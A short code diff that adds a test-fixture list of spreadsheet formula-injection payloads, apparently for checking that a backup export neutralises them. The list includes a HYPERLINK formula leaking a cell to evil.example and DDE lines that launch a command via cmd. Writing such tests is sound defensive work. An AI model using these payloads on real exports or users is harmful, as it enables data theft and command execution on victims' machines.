@@ -52,3 +52,15 @@ export function oversizedBackup(settings: StoredData['settings'], size: '9MB' | 
   const items = Array.from({ length: 40_000 }, (_, i) => (size === '9MB' ? bigItem(i, 12, false) : bigItem(i, 170)));
   return backupText({ settings, items }, false);
 }
+
+/** Payloads from OWASP's CSV Injection page and the review that found the hole. */
+export const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '\t=1+2',
+  '\r=1+2',
+  '\uFF1D1+2',
+  "'=1+2",
+];
